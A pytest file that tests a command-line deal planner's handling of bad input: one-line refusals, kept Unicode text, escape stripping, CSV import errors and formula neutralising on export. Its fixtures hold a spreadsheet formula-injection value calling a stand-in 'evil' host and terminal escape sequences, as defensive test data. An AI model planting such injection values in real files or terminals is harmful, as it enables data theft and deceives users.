"""Bad input everywhere, through the CLI a user runs (SPEC §4 "exit code 2 for bad input … never a
traceback", §6; issue item 5). Each refusal is one line on stderr with exit code 2 and leaves the
database byte for byte as it was; text that is merely unusual (Chinese, emoji, markup-looking)
is kept verbatim; terminal escape sequences never reach the terminal.
"""

from __future__ import annotations

import json

import pytest

from .conftest import assert_one_line_error, checkpoint, fingerprint, make_database, planner, planner_env, run_cli

LONG = "x" * 201


@pytest.fixture
def db(home):
    return make_database(home, "Acme: website revamp", "Globex: audit")


def _deals(db, home) -> list[dict]:
    run = planner(db, "list", "--json", home=home)
    assert run.code == 0, run.err
    return json.loads(run.out)


BAD_COMMANDS = {
    # dates
    "impossible day": (["add", "Deal", "--close", "2026-02-30"], "2026-02-30"),
    "words for a date": (["add", "Deal", "--due", "next tuesday-ish"], "next tuesday-ish"),
    "date too far away": (["add", "Deal", "--first-contact", "+99999w"], "far"),
    "date in a log": (["log", "--kind", "call", "--minutes", "30", "--on", "31/12/2026"], "31/12/2026"),
    # money
    "letters in an amount": (["add", "Deal", "--value", "12abc"], "12abc"),
    "negative amount": (["add", "Deal", "--value", "-500"], "negative"),
    "ambiguous thousands dot": (["add", "Deal", "--value", "3.000"], "ambiguous"),
    "ambiguous amount with a sign": (["add", "Deal", "--value", "18.500 €"], "decimal comma"),
    "scientific amount": (["add", "Deal", "--value", "1e9"], "1e9"),
    "absurd amount": (["add", "Deal", "--value", "9" * 30], "too large"),
    "fraction of a cent": (["add", "Deal", "--value", "0.001"], "cent"),
    # buckets, kinds, minutes, ids
    "unknown bucket": (["add", "Deal", "--bucket", "middle"], "middle"),
    "new deal already won": (["add", "Deal", "--bucket", "won"], "won"),
    "move to an unknown bucket": (["move", "1", "sideways"], "sideways"),
    "move an unknown id": (["move", "999", "in"], "999"),
    "move a non-number id": (["move", "abc", "in"], "abc"),
    "list an unknown bucket": (["list", "--bucket", "middle"], "middle"),
    "unknown activity kind": (["log", "1", "--kind", "dance", "--minutes", "30"], "dance"),
    "no minutes": (["log", "1", "--kind", "call", "--minutes", "0"], "minutes"),
    "more than a day": (["log", "1", "--kind", "call", "--minutes", "25h"], "minutes"),
    "log on an unknown id": (["log", "999", "--kind", "call", "--minutes", "30"], "999"),
    "setting out of range": (["config", "hours_per_week", "-5"], "hours_per_week"),
    "unknown setting": (["config", "hours_a_day", "5"], "hours_a_day"),
    # text
    "empty title": (["add", ""], "title"),
    "blank title": (["add", "   \t "], "title"),
    "title of escapes only": (["add", "\x1b[31m\x1b[0m"], "title"),
    "over-long title": (["add", LONG], "too long"),
    "over-long account": (["add", "Deal", "--account", LONG], "too long"),
    "over-long next action": (["add", "Deal", "--next", LONG], "too long"),
    "over-long notes": (["add", "Deal", "--notes", "n" * 10_001], "too long"),
    "lost reason too long": (["move", "1", "lost", "--reason", LONG], "too long"),
    # usage
    "unknown command": (["frobnicate"], "frobnicate"),
    "missing argument": (["move", "1"], "bucket"),
}


@pytest.mark.parametrize("case", list(BAD_COMMANDS))
def test_bad_input_gets_one_line_exit_2_and_changes_nothing(case, db, home):
    command, words = BAD_COMMANDS[case]
    before = fingerprint(db)
    run = planner(db, *command, home=home)
    assert_one_line_error(run, 2, words)
    assert "\x1b" not in run.err
    checkpoint(db)
    assert fingerprint(db) == before, "a refused command changed the database"


def test_a_bad_planner_today_is_bad_input(db, home):
    before = fingerprint(db)
    run = run_cli("--db", str(db), "add", "Deal", home=home, env=planner_env(home, PLANNER_TODAY="someday"))
    assert_one_line_error(run, 2, "PLANNER_TODAY")
    assert fingerprint(db) == before


@pytest.mark.parametrize(
    "title",
    ["客户：上海贸易公司 — 年度合同", "🚀 Launch 👩‍💻 ünïcødé", "[bold red]Initech[/] [link=http://x]y", "=HYPERLINK(\"http://evil\")",
     "-2+3", "@SUM(A1)", "Tom's \"quoted\", comma"],
)
def test_unusual_but_valid_text_is_kept_verbatim(title, db, home):
    # `--opt=value` and `--` so that text starting with "-" is not taken for an option.
    run = planner(db, "add", f"--account={title}", f"--notes={title}\nsecond line", "--", title, home=home)
    assert run.code == 0, run.err
    new_id = int(run.out.strip())
    [deal] = [d for d in _deals(db, home) if d["id"] == new_id]
    assert deal["title"] == title and deal["account"] == title and deal["notes"] == f"{title}\nsecond line"
    table = planner(db, "list", home=home)
    assert title.split()[0] in table.out


DIRTY = ["\x1b]0;owned\x07Acme\x1b[2J", "\x1b[31mRed\x1b[0m deal", "Bell\x07 and \x08backspace", "\x9b31mC1 CSI", "Tab\there"]


def test_terminal_escapes_and_control_characters_never_reach_the_terminal(db, home):
    for dirty in DIRTY:
        run = planner(db, "add", dirty, "--next", dirty, "--account", dirty, home=home)
        assert run.code == 0, run.err
    titles = {d["title"] for d in _deals(db, home)}
    assert {"Acme", "Red deal", "Bell and backspace", "C1 CSI", "Tab here"} <= titles
    for command in (["list"], ["list", "--json"], ["status"], ["export"]):
        shown = planner(db, *command, home=home)
        assert shown.code == 0, shown.err
        controls = sorted({f"U+{ord(c):04X}" for c in shown.out if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0})
        assert not controls, f"{command} printed control characters {controls}"


# --- CSV import through the CLI ------------------------------------------------------------------

BAD_CSV = {
    "unclosed quote": (b"title,notes\nAcme,\"never closed\nBeta,x\n", "line 2"),
    "no title column": (b"account,value\nAcme,100\n", "title"),
    "bytes of no known encoding": (b"title,notes\nCaf\xe9,\x81\n", "neither UTF-8 nor Windows-1252"),
    "ambiguous amount": (b"title,value\nAcme,3.000\n", "ambiguous"),
    "two currencies": ("title,value\nA,$5\nB,5 \u20ac\n".encode(), "currencies"),
    "duplicate ids": (b"id,title\n50,A\n50,B\n", "line 3"),
    "id already in the database": (b"id,title\n1,Would overwrite\n", "already exists"),
    "bad cells on two lines": (b"title,value,bucket\nGood,1,in\nBad,12abc,in\nWorse,1,middle\n", "2 problems"),
    "empty file": (b"", "empty"),
    "escape sequence in a cell": (b"title\nA\x1b[2J\n", "control"),
}


@pytest.mark.parametrize("case", list(BAD_CSV))
def test_a_bad_csv_imports_nothing_and_says_why(case, db, home):
    data, words = BAD_CSV[case]
    csv = home / "deals.csv"
    csv.write_bytes(data)
    before = fingerprint(db)
    run = planner(db, "import", str(csv), home=home)
    assert run.code == 2, run.err
    assert "Traceback" not in run.err
    lines = run.err.splitlines()
    assert "nothing imported" in lines[0] and words.lower() in run.err.lower(), run.err
    if "problems" in lines[0]:  # one indented line per bad row, each naming its line
        assert all(line.strip().startswith("line ") for line in lines[1:]) and len(lines) >= 3
    else:
        assert len(lines) == 1
    checkpoint(db)
    assert fingerprint(db) == before


def test_dry_run_changes_nothing(db, home):
    csv = home / "deals.csv"
    csv.write_text("title,value\nNew one,100\n", encoding="utf-8")
    before = fingerprint(db)
    run = planner(db, "import", str(csv), "--dry-run", home=home)
    assert run.code == 0 and "1" in run.out
    checkpoint(db)
    assert fingerprint(db) == before


def test_formula_cells_import_as_text_and_export_neutralised_and_round_trip(db, home):
    """Issue item 6 end to end: what a spreadsheet would run comes back as plain text, and the
    exported file, imported into a fresh database, gives the same deals."""
    import csv as csvlib
    import io

    source = home / "in.csv"
    source.write_text(
        "title,account,notes,value,bucket,next_action_due\n"
        '=HYPERLINK("http://evil/?"&A1),+cmd,"@SUM(A1)\nline two",1250.50,in,2026-03-09\n'
        "-2+3,'=already escaped,\"\tleading tab\",0,best_few,\n"
        "Plain deal,客户 🚀,[bold]x[/],99,above,\n",
        encoding="utf-8",
    )
    assert planner(db, "import", str(source), home=home).code == 0
    exported = home / "out.csv"
    assert planner(db, "export", "-o", str(exported), home=home).code == 0
    rows = list(csvlib.reader(io.StringIO(exported.read_text(encoding="utf-8"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula-like cell {cell!r}"

    fresh = home / "fresh.db"
    assert planner(fresh, "import", str(exported), home=home).code == 0
    assert _deals(fresh, home) == _deals(db, home)
    titles = [d["title"] for d in _deals(db, home)]
    assert '=HYPERLINK("http://evil/?"&A1)' in titles and "-2+3" in titles


@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
def test_machine_output_on_a_non_utf8_terminal_loses_nothing(encoding, home):
    """`planner export > deals.csv` and `planner list --json | tool` in a legacy locale: the CSV is
    UTF-8 by contract (SPEC §4) and JSON can escape, so no character may turn into '?'."""
    db = make_database(home, "客户：上海贸易公司 🚀", "Café Müller — ½ price")
    env = planner_env(home, PYTHONIOENCODING=encoding)
    exported = run_cli("--db", str(db), "export", home=home, env=env)
    assert exported.code == 0, exported.err
    csv = home / "deals.csv"
    csv.write_text(exported.out, encoding="utf-8")
    fresh = home / "fresh.db"
    assert planner(fresh, "import", str(csv), home=home).code == 0
    titles = {d["title"] for d in _deals(db, home)}
    assert {d["title"] for d in _deals(fresh, home)} == titles, "export to a non-UTF-8 stdout lost characters"
    listed = run_cli("--db", str(db), "list", "--json", home=home, env=env)
    assert listed.code == 0 and {d["title"] for d in json.loads(listed.out)} == titles


@pytest.mark.parametrize(
    "command",
    [["export", "-o", "{db}"], ["export", "--format", "json", "-o", "{db}"], ["plan", "--ics", "{db}"],
     ["export", "-o", "{db}-wal"]],
    ids=["csv-over-db", "json-over-db", "ics-over-db", "csv-over-wal"],
)
def test_writing_a_file_over_the_database_itself_is_refused(command, db, home):
    """A slip of the tongue (`-o planner.db`) must not replace the user's data with a CSV, JSON or
    iCalendar file: refused in one line as bad input, the database as it was."""
    before = fingerprint(db)
    run = planner(db, *[part.format(db=db) for part in command], home=home)
    assert_one_line_error(run, 2)
    checkpoint(db)
    assert fingerprint(db) == before
    assert [d["title"] for d in _deals(db, home)] == ["Acme: website revamp", "Globex: audit"]


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16", "utf-8-sig"])
def test_a_sheet_saved_in_another_encoding_imports_with_every_name(encoding, db, home):
    csv = home / "deals.csv"
    csv.write_bytes("title,notes\nCafé Müller,crème brûlée\n".encode(encoding))
    run = planner(db, "import", str(csv), home=home)
    assert run.code == 0, run.err
    assert ("Café Müller", "crème brûlée") in [(d["title"], d["notes"]) for d in _deals(db, home)]
    assert ("Windows-1252" in run.err) == (encoding == "cp1252")
